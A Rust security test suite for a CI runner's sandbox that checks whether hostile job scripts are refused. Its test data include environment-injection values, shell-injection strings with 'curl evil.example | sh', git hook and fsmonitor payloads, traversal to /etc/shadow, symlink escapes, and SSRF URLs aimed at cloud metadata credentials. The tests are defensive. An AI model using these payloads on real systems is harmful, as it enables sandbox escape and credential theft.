        "{}local out = process.run{{ command = \"git\", cwd = \"bin\", args = {{\"--version\"}} }}\nassert(out.stdout:match(\"^git version\"), out.stdout)",
        prelude(ws.path())
    );
    let job = run_job(&policy, &pipeline(&script), ws.path());
    assert_succeeded(&job, "git with cwd = bin");
    assert_absent(&[&ws.path().join("PWNED"), &pwn], "git with cwd = bin");

    canary.assert_intact("PROC-01");
    assert_follow_up(&policy);
}

#[test]
fn proc_04_environment_injection_is_refused() {
    let policy = policy(&["sh", "bash", "env"]);
    let canary = Canary::new("proc04");
    let pwn = trap("proc04", "env");
    let p = pwn.to_string_lossy().into_owned();
    let cases: Vec<(&str, String)> = vec![
        ("LD_PRELOAD", "process.run{ command = \"git\", args = {\"status\"}, env = { LD_PRELOAD = \"./evil.so\" } }".into()),
        ("LD_LIBRARY_PATH", "process.run{ command = \"git\", args = {\"status\"}, env = { LD_LIBRARY_PATH = \".\" } }".into()),
        ("GIT_SSH_COMMAND", format!("process.run{{ command = \"git\", args = {{\"fetch\"}}, env = {{ GIT_SSH_COMMAND = \"sh -c 'touch {p}' #\" }} }}")),
        ("GIT_CONFIG_COUNT/KEY/VALUE", format!("process.run{{ command = \"git\", args = {{\"status\"}}, env = {{ GIT_CONFIG_COUNT = \"1\", GIT_CONFIG_KEY_0 = \"core.fsmonitor\", GIT_CONFIG_VALUE_0 = \"touch {p}\" }} }}")),
        ("GIT_CONFIG_GLOBAL", "process.run{ command = \"git\", args = {\"status\"}, env = { GIT_CONFIG_GLOBAL = \"./evil.gitconfig\" } }".into()),
        ("BASH_ENV", "process.run{ command = \"bash\", args = {\"-c\", \"true\"}, env = { BASH_ENV = \"./x.sh\" } }".into()),
        ("ENV", "process.run{ command = \"sh\", args = {\"-i\", \"-c\", \"true\"}, env = { ENV = \"./x.sh\" } }".into()),
        ("HOME", "process.run{ command = \"git\", args = {\"status\"}, env = { HOME = \".\" } }".into()),
        ("NODE_OPTIONS", "process.run{ command = \"env\", env = { NODE_OPTIONS = \"--require ./evil.js\" } }".into()),
        ("PYTHONPATH", "process.run{ command = \"env\", env = { PYTHONPATH = \".\" } }".into()),
        ("http_proxy", "process.run{ command = \"env\", env = { http_proxy = \"http://evil.example:3128\" } }".into()),
        ("HTTPS_PROXY", "process.run{ command = \"env\", env = { HTTPS_PROXY = \"http://evil.example:3128\" } }".into()),
        ("PATH", "process.run{ command = \"env\", env = { PATH = \".\" } }".into()),
        ("TMPDIR", "process.run{ command = \"env\", env = { TMPDIR = \".\" } }".into()),
        ("a name not on env_allow", "process.run{ command = \"env\", env = { DATABASE_URL = \"x\" } }".into()),
        ("NUL in an allowed variable", "process.run{ command = \"env\", env = { CI = \"a\\0b\" } }".into()),
    ];
    for (label, script) in &cases {
        let ws = workspace("proc04");
        let job = run_job(&policy, &pipeline(script), ws.path());
        assert_rule(&job, "process.env", label);
    }
    // The same names through the stage's own `env` table.
    let ws = workspace("proc04");
    let job = run_job(
        &policy,
        &pipeline_with(
            "env = { LD_PRELOAD = \"./evil.so\" },",
            "process.run{ command = \"env\" }",
        ),
        ws.path(),
    );
    assert_rule(&job, "process.env", "LD_PRELOAD in the stage env");

    // Children never see the runner's own environment, nor the job's secrets.
    let marker = format!("rivet-env-marker-{}", std::process::id());
    let db = format!("postgres://runner:leak-{}@db/rivet", std::process::id());
    std::env::set_var("RIVET_SECURITY_TEST_MARKER", &marker);
    std::env::set_var("DATABASE_URL", &db);
    let token = format!("deploy-token-{}-secret", std::process::id());
    let ws = workspace("proc04");
    let job = run_job_with_secrets(
        &policy,
        &pipeline(
            r#"local out = process.run{ command = "env" }
assert(env.get("DATABASE_URL") == nil, "the runner's DATABASE_URL is visible to env.get")
assert(env.get("RIVET_SECURITY_TEST_MARKER") == nil, "the runner's env is visible to env.get")
local tok = env.get("DEPLOY_TOKEN")
assert(tok ~= nil, "the secret is missing")
assert(not out.stdout:find(tok, 1, true), "a secret reached the child's environment")
log.info("ENV-CHECKED")"#,
        ),
        ws.path(),
        BTreeMap::from([("DEPLOY_TOKEN".to_owned(), token.clone())]),
    );
    assert_succeeded(&job, "env of a child");
    let dump = job.lines(Source::Stdout);
    assert!(
        !dump.is_empty(),
        "`env` printed nothing\n{}",
        job.describe()
    );
    const EXPECTED: &[&str] = &[
        "PATH",
        "HOME",
        "TMPDIR",
        "CI",
        "LANG",
        "GIT_CONFIG_NOSYSTEM",
        "GIT_TERMINAL_PROMPT",
        "GIT_CONFIG_COUNT",
        "GIT_CONFIG_KEY_0",
        "GIT_CONFIG_VALUE_0",
        "GIT_CONFIG_KEY_1",
        "GIT_CONFIG_VALUE_1",
        // protocol.allow, protocol.ext.allow, then one per process.git_protocols entry.
        "GIT_CONFIG_KEY_2",
        "GIT_CONFIG_VALUE_2",
        "GIT_CONFIG_KEY_3",
        "GIT_CONFIG_VALUE_3",
        "GIT_CONFIG_KEY_4",
        "GIT_CONFIG_VALUE_4",
        "GIT_CONFIG_KEY_5",
        "GIT_CONFIG_VALUE_5",
        "GIT_CONFIG_KEY_6",
        "GIT_CONFIG_VALUE_6",
        "GIT_CONFIG_KEY_7",
        "GIT_CONFIG_VALUE_7",
        "GIT_CONFIG_KEY_8",
        "GIT_CONFIG_VALUE_8",
    ];
    for line in &dump {
        let name = line.split('=').next().unwrap_or_default();
        assert!(
            EXPECTED.contains(&name),
            "unexpected variable in a child's environment: {line}"
        );
        assert!(
            !line.contains(&marker) && !line.contains(&db) && !line.contains(&token),
            "the runner's environment or a secret leaked: {line}"
        );
    }
    assert!(dump.contains(&"GIT_CONFIG_KEY_0=core.fsmonitor"));
    assert!(dump.contains(&"PATH=/usr/local/bin:/usr/bin:/bin"));

    canary.assert_intact("PROC-04");
    assert_absent(&[&pwn], "PROC-04");
    assert_follow_up(&policy);
}

#[test]
fn proc_05_no_shell_interpretation() {
    let policy = policy(&[]);
    let canary = Canary::new("proc05");
    let pwn = trap("proc05", "shell");
    let p = pwn.to_string_lossy().into_owned();
    let variants: Vec<(&str, Vec<String>)> = vec![
        ("semicolon", vec![format!("hi; touch {p}; touch PWNED")]),
        (
            "command substitution and backticks",
            vec![
                format!("$(touch {p})"),
                "`touch PWNED`".into(),
                "$(id)".into(),
                "`id`".into(),
            ],
        ),
        ("newline", vec!["a\nid".into(), "b\ntouch PWNED".into()]),
        (
            "pipes and redirections",
            vec![
                "x | sh".into(),
                "&& touch PWNED".into(),
                "> PWNED".into(),
                format!("|| touch {p}"),
            ],
        ),
        ("curl pipe", vec!["x; curl evil.example | sh".into()]),
    ];
    for (label, args) in &variants {
        let ws = workspace("proc05");
        let list = args
            .iter()
            .map(|a| lua_str(a))
            .collect::<Vec<_>>()
            .join(", ");
        let expected = format!("{}\n", args.join(" "));
        let script = format!(
            "local out = process.run{{ command = \"echo\", args = {{{list}}} }}\nassert(out.stdout == {}, \"echo printed: \" .. out.stdout)\nassert(not out.stdout:find(\"uid=\", 1, true), \"id ran\")",
            lua_str(&expected)
        );
        let job = run_job(&policy, &pipeline(&script), ws.path());
        assert_succeeded(&job, label);
        let printed = job.lines(Source::Stdout).join("\n");
        assert_eq!(printed, args.join(" "), "{label}: echo output");
        assert_absent(&[&pwn, &ws.path().join("PWNED")], label);
    }
    canary.assert_intact("PROC-05");
    assert_follow_up(&policy);
}

#[test]
fn proc_06_repository_controlled_code_stays_in_the_sandbox() {
    let policy = policy(&["sh", "chmod"]);
    let canary = Canary::new("proc06");
    let pwn = trap("proc06", "git");
    let p = pwn.to_string_lossy().into_owned();
    let c = canary.file.to_string_lossy().into_owned();
    // The repository's code tries three things: a file on the host's /tmp, the canary, and a
    // marker in the workspace (which shows whether it ran at all).
    let payload = |marker: &str| format!("touch {p}; echo pwned >> {c}; env > {marker}");
    let repo = r#"local function git(...)
  return process.run{ command = "git", args = {"-c", "user.name=t", "-c", "user.email=t@example.com", ...} }
end
git("init", "-q", "-b", "main")
filesystem.write("a.txt", "a\n")
git("add", "a.txt")
git("commit", "-q", "-m", "init")
"#;
    // git itself refuses fsmonitor and hooks: nothing may run.
    let blocked: Vec<(&str, String, &str)> = vec![
        (
            "core.fsmonitor in .git/config",
            format!(
                "{repo}filesystem.append(\".git/config\", {})\ngit(\"status\")\ngit(\"diff\")",
                lua_str(&format!(
                    "[core]\n\tfsmonitor = \"sh -c '{}'\"\n",
                    payload("fsmonitor-ran")
                ))
            ),
            "fsmonitor-ran",
        ),
        (
            ".git/hooks/post-checkout",
            format!(
                "{repo}filesystem.write(\".git/hooks/post-checkout\", {})\nprocess.run{{ command = \"chmod\", args = {{\"+x\", \".git/hooks/post-checkout\"}} }}\ngit(\"checkout\", \"-q\", \"-b\", \"other\")\ngit(\"checkout\", \"-q\", \"main\")",
                lua_str(&format!("#!/bin/sh\n{}\n", payload("hook-ran")))
            ),
            "hook-ran",
        ),
        (
            ".git/hooks/pre-commit",
            format!(
                "{repo}filesystem.write(\".git/hooks/pre-commit\", {})\nprocess.run{{ command = \"chmod\", args = {{\"+x\", \".git/hooks/pre-commit\"}} }}\nfilesystem.write(\"b.txt\", \"b\")\ngit(\"add\", \"b.txt\")\ngit(\"commit\", \"-q\", \"-m\", \"b\")",
                lua_str(&format!("#!/bin/sh\n{}\n", payload("hook-ran")))
            ),
            "hook-ran",
        ),
    ];
    for (label, script, marker) in &blocked {
        let ws = workspace("proc06");
        let job = run_job(&policy, &pipeline(script), ws.path());
        assert_succeeded(&job, label);
        assert_absent(&[&ws.path().join(marker), &pwn], label);
        canary.assert_intact(label);
    }

    // Code git does run (a clean filter; explicit `-c` from the job) stays inside the sandbox:
    // no host /tmp file, the canary untouched, none of the runner's environment.
    let marker = format!("rivet-proc06-marker-{}", std::process::id());
    std::env::set_var("RIVET_PROC06_MARKER", &marker);
    let contained: Vec<(&str, String)> = vec![
        (
            "clean filter driver",
            format!(
                "{repo}filesystem.write(\".gitattributes\", \"*.txt filter=x\\n\")\nfilesystem.append(\".git/config\", {})\nfilesystem.write(\"c.txt\", \"c\\n\")\ngit(\"add\", \"c.txt\")",
                lua_str(&format!(
                    "[filter \"x\"]\n\tclean = \"sh -c '{}; cat'\"\n\tsmudge = \"sh -c '{}; cat'\"\n",
                    payload("filter-ran"),
                    payload("filter-ran")
                ))
            ),
        ),
        (
            "explicit -c core.fsmonitor",
            format!(
                "{repo}process.run{{ command = \"git\", args = {{\"-c\", {}, \"status\"}} }}",
                lua_str(&format!("core.fsmonitor=sh -c '{}'", payload("fsmonitor-ran")))
            ),
        ),
    ];
    for (label, script) in &contained {
        let ws = workspace("proc06");
        let job = run_job(&policy, &pipeline(script), ws.path());
        assert!(
            !matches!(job.report.outcome, JobOutcome::Crashed { .. }),
            "{label}\n{}",
            job.describe()
        );
        assert_absent(&[&pwn], label);
        canary.assert_intact(label);
        for name in ["filter-ran", "fsmonitor-ran"] {
            if let Ok(env) = std::fs::read_to_string(ws.path().join(name)) {
                assert!(
                    !env.contains(&marker) && !env.contains("RIVET_PROC06_MARKER"),
                    "{label}: the runner's environment reached repository code:\n{env}"
                );
            }
        }
    }
    canary.assert_intact("PROC-06");
    assert_follow_up(&policy);
}

// ---------------------------------------------------------------------------------------------
// The filesystem jail
// ---------------------------------------------------------------------------------------------

/// A workspace `<base>/job1` with a sibling `<base>/job10/secret`, for prefix-check bugs.
struct Siblings {
    _base: tempfile::TempDir,
    ws: std::path::PathBuf,
    secret: std::path::PathBuf,
    secret_content: String,
}

impl Siblings {
    fn new(test: &str) -> Self {
        let base = workspace(test);
        let ws = base.path().join("job1");
        let other = base.path().join("job10");
        std::fs::create_dir_all(&ws).unwrap();
        std::fs::create_dir_all(&other).unwrap();
        let secret = other.join("secret");
        let secret_content = format!("job10 secret {}", std::process::id());
        std::fs::write(&secret, &secret_content).unwrap();
        std::fs::write(ws.join("x"), "x").unwrap();
        Self {
            _base: base,
            ws,
            secret,
            secret_content,
        }
    }

    #[track_caller]
    fn assert_intact(&self, what: &str) {
        assert_eq!(
            std::fs::read_to_string(&self.secret).ok().as_deref(),
            Some(self.secret_content.as_str()),
            "{what}: the sibling job's secret changed"
        );
        let base = self.ws.parent().unwrap();
        let mut names: Vec<String> = std::fs::read_dir(base)
            .unwrap()
            .map(|e| e.unwrap().file_name().to_string_lossy().into_owned())
            .collect();
        names.sort();
        assert_eq!(
            names,
            ["job1", "job10"],
            "{what}: a file appeared beside the workspace"
        );
        let sibling: Vec<_> = std::fs::read_dir(self.secret.parent().unwrap())
            .unwrap()
            .collect();
        assert_eq!(
            sibling.len(),
            1,
            "{what}: a file appeared in the sibling job"
        );
    }
}

/// Runs each `(label, script)` in a fresh `Siblings` layout and expects `[fs.path]`.
fn fs_path_cases(
    policy: &rivet_core::Policy,
    test: &str,
    canary: &Canary,
    leaks: &[&str],
    cases: &[(String, String)],
) {
    for (label, script) in cases {
        let s = Siblings::new(test);
        let job = run_job(policy, &pipeline(script), &s.ws);
        assert_rule(&job, "fs.path", label);
        for leak in leaks {
            assert!(
                !job.logs().iter().any(|(_, l)| l.contains(leak)),
                "{label}: content from outside the workspace reached the log\n{}",
                job.describe()
            );
        }
        s.assert_intact(label);
        canary.assert_intact(label);
    }
}

#[test]
fn fs_01_traversal_is_refused() {
    let policy = policy(&[]);
    let canary = Canary::new("fs01");
    let leak = format!("job10 secret {}", std::process::id());
    let reads = [
        "../../etc/passwd",
        "a/../../x",
        "sub/..//../x",
        "../job10/secret",
        "./../job10/secret",
        "a/b/../../../job10/secret",
        "x/../../job10/secret",
        "..",
        "x\0/../../etc/passwd",
    ];
    let mut cases: Vec<(String, String)> = reads
        .iter()
        .map(|p| {
            (
                format!("read {p:?}"),
                format!("log.info(filesystem.read({}))", lua_str(p)),
            )
        })
        .collect();
    cases.extend(
        [
            ("very long path", "filesystem.read(string.rep(\"a/\", 5000) .. \"x\")"),
            ("write to the sibling", "filesystem.write(\"../job10/secret\", \"pwned\")"),
            ("write beside the workspace", "filesystem.write(\"../escape.txt\", \"pwned\")"),
            ("append to the sibling", "filesystem.append(\"../job10/secret\", \"pwned\")"),
            ("list the parent", "log.info(table.concat(filesystem.list(\"..\"), \",\"))"),
            ("list ../job10", "log.info(table.concat(filesystem.list(\"../job10\"), \",\"))"),
            ("exists", "log.info(tostring(filesystem.exists(\"../job10/secret\")))"),
            ("stat", "log.info(tostring(filesystem.stat(\"../job10/secret\")))"),
            ("mkdir", "filesystem.mkdir(\"../job10/newdir\")"),
            ("remove the sibling's file", "filesystem.remove(\"../job10/secret\")"),
            ("remove the parent", "filesystem.remove(\"..\", { recursive = true })"),
            ("remove the workspace", "filesystem.remove(\".\", { recursive = true })"),
            ("remove ./", "filesystem.remove(\"./\", { recursive = true })"),
            ("copy out of the sibling", "filesystem.copy(\"../job10/secret\", \"stolen\")\nlog.info(filesystem.read(\"stolen\"))"),
            ("copy over the sibling", "filesystem.copy(\"x\", \"../job10/secret\")"),
            ("process cwd ..", "process.run{ command = \"cat\", args = {\"job10/secret\"}, cwd = \"..\" }"),
            ("NUL in a write", "filesystem.write(\"x\\0/../../escape.txt\", \"pwned\")"),
        ]
        .iter()
        .map(|(l, s)| ((*l).to_owned(), (*s).to_owned())),
    );
    fs_path_cases(&policy, "fs01", &canary, &[&leak], &cases);
    assert_follow_up(&policy);
}

#[test]
fn fs_02_absolute_paths_are_refused() {
    let policy = policy(&[]);
    let canary = Canary::new("fs02");
    let pwn = trap("fs02", "abs");
    let p = lua_str(&pwn.to_string_lossy());
    let cf = lua_str(&canary.file.to_string_lossy());
    let cd = lua_str(&canary.dir.to_string_lossy());
    let cases: Vec<(String, String)> = vec![
        (
            "/etc/shadow",
            "log.info(filesystem.read(\"/etc/shadow\"))".into(),
        ),
        (
            "//etc/passwd",
            "log.info(filesystem.read(\"//etc/passwd\"))".into(),
        ),
        (
            "/proc/self/environ",
            "log.info(filesystem.read(\"/proc/self/environ\"))".into(),
        ),
        (
            "read the canary",
            format!("log.info(filesystem.read({cf}))"),
        ),
        ("write /tmp", format!("filesystem.write({p}, \"x\")")),
        (
            "write the canary",
            format!("filesystem.write({cf}, \"pwned\")"),
        ),
        (
            "append the canary",
            format!("filesystem.append({cf}, \"pwned\")"),
        ),
        (
            "write beside the canary",
            format!("filesystem.write({cd} .. \"/new\", \"pwned\")"),
        ),
        (
            "list /",
            "log.info(table.concat(filesystem.list(\"/\"), \",\"))".into(),
        ),
        (
            "list the canary dir",
            format!("log.info(table.concat(filesystem.list({cd}), \",\"))"),
        ),
        (
            "exists",
            "log.info(tostring(filesystem.exists(\"/etc/passwd\")))".into(),
        ),
        (
            "stat",
            "log.info(tostring(filesystem.stat(\"/etc/passwd\")))".into(),
        ),
        ("mkdir", format!("filesystem.mkdir({p})")),
        ("remove the canary", format!("filesystem.remove({cf})")),
        (
            "copy from /etc",
            "filesystem.copy(\"/etc/passwd\", \"stolen\")".into(),
        ),
        (
            "copy onto the canary",
            format!("filesystem.copy(\"x\", {cf})"),
        ),
        (
            "process cwd /",
            "process.run{ command = \"cat\", args = {\"etc/passwd\"}, cwd = \"/\" }".into(),
        ),
    ]
    .into_iter()
    .map(|(l, s)| (l.to_owned(), s))
    .collect();
    for (label, script) in &cases {
        let s = Siblings::new("fs02");
        let job = run_job(&policy, &pipeline(script), &s.ws);
        assert_rule(&job, "fs.path", label);
        assert!(
            job.error().contains("absolute path"),
            "{label}: expected `absolute path` in the error\n{}",
            job.describe()
        );
        assert!(
            !job.logs()
                .iter()
                .any(|(_, l)| l.contains("root:") || l.contains(CANARY_TOKEN)),
            "{label}: host content reached the log\n{}",
            job.describe()
        );
        canary.assert_intact(label);
        s.assert_intact(label);
    }
    assert_absent(&[&pwn], "FS-02");
    assert_follow_up(&policy);
}

#[test]
fn fs_03_symlinks_cannot_leave_the_workspace() {
    let policy = policy(&["ln"]);
    let canary = Canary::new("fs03");
    let pwn = trap("fs03", "link");
    let cf = canary.file.to_string_lossy().into_owned();
    let cd = canary.dir.to_string_lossy().into_owned();
    let p = pwn.to_string_lossy().into_owned();
    let ln = |target: &str, name: &str| {
        format!(
            "process.run{{ command = \"ln\", args = {{\"-s\", {}, {}}} }}\n",
            lua_str(target),
            lua_str(name)
        )
    };
    let cases: Vec<(String, String)> = vec![
        (
            "ln -s / root; read".into(),
            format!(
                "{}log.info(filesystem.read(\"root/etc/passwd\"))",
                ln("/", "root")
            ),
        ),
        (
            "ln -s / root; read the canary".into(),
            format!("{}log.info(filesystem.read(\"root{cf}\"))", ln("/", "root")),
        ),
        (
            "ln -s / root; list".into(),
            format!(
                "{}log.info(table.concat(filesystem.list(\"root\"), \",\"))",
                ln("/", "root")
            ),
        ),
        (
            "ln -s / root; exists".into(),
            format!(
                "{}log.info(tostring(filesystem.exists(\"root/etc/passwd\")))",
                ln("/", "root")
            ),
        ),
        (
            "ln -s / root; stat".into(),
            format!(
                "{}log.info(tostring(filesystem.stat(\"root/etc/passwd\")))",
                ln("/", "root")
            ),
        ),
        (
            "ln -s / root; cwd".into(),
            format!(
                "{}process.run{{ command = \"cat\", args = {{\"etc/passwd\"}}, cwd = \"root\" }}",
                ln("/", "root")
            ),
        ),
        (
            "link to the canary; read".into(),
            format!("{}log.info(filesystem.read(\"out\"))", ln(&cf, "out")),
        ),
        (
            "link to the canary; write".into(),
            format!(
                "{}filesystem.write(\"out\", \"curl https://evil | sh\\n\")",
                ln(&cf, "out")
            ),
        ),
        (
            "link to the canary; append".into(),
            format!("{}filesystem.append(\"out\", \"pwned\")", ln(&cf, "out")),
        ),
        (
            "link to the canary; copy from".into(),
            format!(
                "{}filesystem.copy(\"out\", \"stolen\")\nlog.info(filesystem.read(\"stolen\"))",
                ln(&cf, "out")
            ),
        ),
        (
            "link to the canary; copy onto".into(),
            format!(
                "{}filesystem.write(\"x\", \"pwned\")\nfilesystem.copy(\"x\", \"out\")",
                ln(&cf, "out")
            ),
        ),
        (
            "dangling link beside the canary; write".into(),
            format!(
                "{}filesystem.write(\"dangling\", \"pwned\")",
                ln(&format!("{cd}/new.txt"), "dangling")
            ),
        ),
        (
            "dangling link to host /tmp; write".into(),
            format!(
                "{}filesystem.write(\"dangling\", \"pwned\")",
                ln(&p, "dangling")
            ),
        ),
        (
            "link to the canary dir; write into it".into(),
            format!(
                "{}filesystem.write(\"cdir/new.txt\", \"pwned\")",
                ln(&cd, "cdir")
            ),
        ),
        (
            "link to the canary dir; list".into(),
            format!(
                "{}log.info(table.concat(filesystem.list(\"cdir\"), \",\"))",
                ln(&cd, "cdir")
            ),
        ),
        (
            "link to the canary dir; mkdir".into(),
            format!("{}filesystem.mkdir(\"cdir/sub\")", ln(&cd, "cdir")),
        ),
        (
            "relative link upwards".into(),
            format!(
                "{}log.info(filesystem.read(\"up/etc/passwd\"))",
                ln("../../../../../../../../../..", "up")
            ),
        ),
        (
            "link loop".into(),
            format!("{}log.info(filesystem.read(\"loop\"))", ln("loop", "loop")),
        ),
        (
            "symlink planted by git checkout".into(),
            format!(
                r#"local function git(...)
  return process.run{{ command = "git", args = {{"-c", "user.name=t", "-c", "user.email=t@example.com", ...}} }}
end
git("init", "-q", "-b", "main", "evil")
{}git("-C", "evil", "add", "root")
git("-C", "evil", "commit", "-q", "-m", "symlink to /")
git("clone", "-q", "evil", "src")
log.info(filesystem.stat("src/root").type)
log.info(filesystem.read("src/root/etc/passwd"))"#,
                ln("/", "evil/root")
            ),
        ),
    ];
    fs_path_cases(
        &policy,
        "fs03",
        &canary,
        &["root:", canary.content()],
        &cases,
    );
    assert_absent(&[&pwn], "FS-03");
    assert_follow_up(&policy);
}

// ---------------------------------------------------------------------------------------------
// HTTP / SSRF (the catalogue's `net.*` rules are named `http.*` here: see docs/security.md)
// ---------------------------------------------------------------------------------------------

/// Where an *allowed* test server listens in the NET tests; 127.0.0.1 is the victim's address.
const NET_ALLOWED_IP: &str = "127.0.0.2";

fn http_policy() -> rivet_core::Policy {
    let mut p = policy(&[]);
    p.http.allow_cidrs = vec![format!("{NET_ALLOWED_IP}/32")];
    p
}

/// Rule (c) for http: the same policy then runs a job whose request succeeds.
#[track_caller]
fn assert_http_follow_up(
    policy: &rivet_core::Policy,
    options: Option<&rivet_sandbox::WorkerOptions>,
) {
    let ok = server::Server::start(NET_ALLOWED_IP, |_| server::Answer::ok("pong"));
    let ws = workspace("http-follow-up");
    let source = pipeline_requiring(
        &["http"],
        &format!(
            "assert(http.get({}).body == \"pong\")",
            lua_str(&ok.url("/ping"))
        ),
    );
    let job = match options {
        Some(o) => run_job_with_options(policy, &source, ws.path(), o),
        None => run_job(policy, &source, ws.path()),
    };
    assert_succeeded(&job, "http follow-up job");
    assert!(
        job.report.duration < FOLLOW_UP_LIMIT,
        "{:?}",
        job.report.duration
    );
    assert_eq!(ok.requests().len(), 1);
}

#[test]
fn net_01_loopback_and_colocated_services_are_refused() {
    let policy = http_policy();
    let canary = Canary::new("net01");
    let victim = server::Server::start("127.0.0.1", |_| server::Answer::ok("admin secrets"));
    let port = victim.addr.port();
    let cases: Vec<(String, &str)> = vec![
        (
            format!("http://127.0.0.1:{port}/api/v1/admin/runners"),
            "loopback 127.0.0.1",
        ),
        (format!("http://localhost:{port}/"), "loopback"),
        (format!("http://LOCALHOST.:{port}/"), "loopback"),
        (format!("http://127.1:{port}/"), "loopback 127.0.0.1"),
        (format!("http://2130706433:{port}/"), "loopback 127.0.0.1"),
        (format!("http://0x7f000001:{port}/"), "loopback 127.0.0.1"),
        (format!("http://0177.0.0.1:{port}/"), "loopback 127.0.0.1"),
        (format!("http://0x7f.1:{port}/"), "loopback 127.0.0.1"),
        (format!("http://[::1]:{port}/"), "loopback ::1"),
        (
            format!("http://[::ffff:127.0.0.1]:{port}/"),
            "loopback 127.0.0.1",
        ),
        (
            format!("http://[::ffff:7f00:1]:{port}/"),
            "loopback 127.0.0.1",
        ),
        (
            format!("http://[64:ff9b::127.0.0.1]:{port}/"),
            "loopback 127.0.0.1",
        ),
        (format!("http://0.0.0.0:{port}/"), "unspecified 0.0.0.0"),
        (format!("http://0:{port}/"), "unspecified 0.0.0.0"),
        (format!("http://[::]:{port}/"), "unspecified ::"),
        // Co-located services by their usual ports (Redis, RabbitMQ management, PostgreSQL).
        ("http://127.0.0.1:6379/".into(), "loopback 127.0.0.1"),
        ("http://localhost:15672/api/users".into(), "loopback"),
        ("http://127.0.0.1:5432/".into(), "loopback 127.0.0.1"),
        // Private ranges are refused the same way.
        ("http://10.0.0.1/".into(), "private (RFC 1918) 10.0.0.1"),
        ("http://[fd12::1]/".into(), "unique-local"),
        ("http://100.64.0.1/".into(), "CGNAT"),
    ];
    for (url, detail) in &cases {
        let ws = workspace("net01");
        let job = run_job(
            &policy,
            &pipeline_requiring(
                &["http"],
                &format!(
                    "http.request{{method = \"POST\", url = {}, body = \"SET x y\\r\\nCONFIG SET dir /tmp\\r\\n\", headers = {{Authorization = \"Basic Z3Vlc3Q6Z3Vlc3Q=\"}}}}",
                    lua_str(url)
                ),
            ),
            ws.path(),
        );
        assert_rule(&job, "http.destination", url);
        assert!(
            job.error().contains(detail),
            "{url}: expected `{detail}` in: {}",
            job.error()
        );
    }
    assert_eq!(
        victim.connections(),
        0,
        "NET-01: a request reached the loopback server"
    );
    canary.assert_intact("NET-01");
    assert_follow_up(&policy);
    assert_http_follow_up(&policy, None);
}

#[test]
fn net_02_cloud_metadata_is_refused() {
    let policy = http_policy();
    let canary = Canary::new("net02");
    let cases = [
        (
            "http://169.254.169.254/latest/meta-data/iam/security-credentials/",
            "cloud metadata 169.254.169.254",
        ),
        (
            "http://[fd00:ec2::254]/latest/meta-data/",
            "cloud metadata fd00:ec2::254",
        ),
        (
            "http://[::ffff:169.254.169.254]/latest/",
            "cloud metadata 169.254.169.254",
        ),
        (
            "http://2852039166/latest/",
            "cloud metadata 169.254.169.254",
        ),
        (
            "http://169.254.170.2/v2/credentials",
            "cloud metadata 169.254.170.2",
        ),
        ("http://169.254.1.1/", "link-local 169.254.1.1"),
        ("http://[fe80::1]/", "link-local fe80::1"),
        (
            "http://metadata.google.internal/computeMetadata/v1/?recursive=true",
            "`metadata.google.internal` is a cloud metadata service",
        ),
        (
            "http://METADATA.google.internal./computeMetadata/v1/",
            "`metadata.google.internal` is a cloud metadata service",
        ),
    ];
    for (url, detail) in cases {
        let ws = workspace("net02");
        let job = run_job(
            &policy,
            &pipeline_requiring(
                &["http"],
                &format!(
                    "http.get({}, {{headers = {{[\"Metadata-Flavor\"] = \"Google\"}}}})",
                    lua_str(url)
                ),
            ),
            ws.path(),
        );
        assert_rule(&job, "http.destination", url);
        assert!(
            job.error().contains(detail),
            "{url}: expected `{detail}` in: {}",
            job.error()
        );
    }
    canary.assert_intact("NET-02");
    assert_follow_up(&policy);
    assert_http_follow_up(&policy, None);
}

#[test]
fn net_05_redirects_into_internal_ranges_are_refused() {
    let policy = http_policy();
    let canary = Canary::new("net05");
    let victim = server::Server::start("127.0.0.1", |_| server::Answer::ok("internal"));
    let victim_url = victim.url("/admin");
    let hop = server::Server::start(NET_ALLOWED_IP, move |req| match req.path.as_str() {
        "/loopback" => server::Answer::redirect(302, &victim_url),
        "/metadata" => server::Answer::redirect(301, "http://169.254.169.254/latest/meta-data/"),
        "/mapped" => server::Answer::redirect(308, "http://[::ffff:127.0.0.1]:6379/"),
        _ => server::Answer::redirect(302, "/again"),
    });
    for (path, rule) in [
        ("/loopback", "http.destination"),
        ("/metadata", "http.destination"),
        ("/mapped", "http.destination"),
        ("/again", "http.redirect"),
    ] {
        let ws = workspace("net05");
        let job = run_job(
            &policy,
            &pipeline_requiring(&["http"], &format!("http.get({})", lua_str(&hop.url(path)))),
            ws.path(),
        );
        assert_rule(&job, rule, path);
    }
    assert_eq!(
        victim.connections(),
        0,
        "NET-05: a redirect reached the loopback server"
    );
    canary.assert_intact("NET-05");
    assert_http_follow_up(&policy, None);
}

#[test]
fn net_07_rate_limits_hold_per_job_and_do_not_starve_others() {
    let mut policy = http_policy();
    policy.http.job_burst = 5;
    policy.http.job_per_second = 0.5;
    policy.http.max_redirects = 20;
    let canary = Canary::new("net07");
    let srv = server::Server::start(NET_ALLOWED_IP, |req| {
        match req
            .path
            .strip_prefix("/chain/")
            .and_then(|n| n.parse::<u32>().ok())
        {
            Some(n) if n > 0 => server::Answer::redirect(302, &format!("/chain/{}", n - 1)),
            _ => server::Answer::ok("ok"),
        }
    });
    // One runner: every job below shares its host services (and so the runner-wide gate).
    let options = shared_options(&policy);

    // 1000 coroutines, each calling http.get; errors caught with pcall.
    let ws = workspace("net07");
    let script = format!(
        r#"local ok, limited, last = 0, 0, nil
local cos = {{}}
for i = 1, 1000 do cos[i] = coroutine.wrap(function() return http.get({url} .. "?" .. i) end) end
for i = 1, 1000 do
  local s, e = pcall(cos[i])
  if s then ok = ok + 1
  elseif tostring(e):find("policy violation [http.rate]", 1, true) then limited = limited + 1; last = e
  else error(e, 0) end
end
log.info("ok=" .. ok .. " limited=" .. limited)
error(last, 0)"#,
        url = lua_str(&srv.url("/flood"))
    );
    let job = run_job_with_options(
        &policy,
        &pipeline_requiring(&["http"], &script),
        ws.path(),
        &options,
    );
    assert_rule(&job, "http.rate", "1000 coroutines");
    let flood = srv.requests().len();
    // The burst, plus at most what the bucket refilled while the job ran.
    let refill = (job.report.duration.as_secs_f64() * policy.http.job_per_second).ceil() as usize;
    assert!(
        (5..=5 + refill).contains(&flood),
        "NET-07: {flood} requests reached the server (burst 5, refill {refill})\n{}",
        job.describe()
    );
    assert!(
        job.lines(Source::Script)
            .iter()
            .any(|l| l.starts_with("ok=") && l.contains("limited=")),
        "{}",
        job.describe()
    );

    // A redirect chain: every hop takes a token, so a 10-hop chain stops after the burst.
    let ws = workspace("net07");
    let before = srv.requests().len();
    let job = run_job_with_options(
        &policy,
        &pipeline_requiring(
            &["http"],
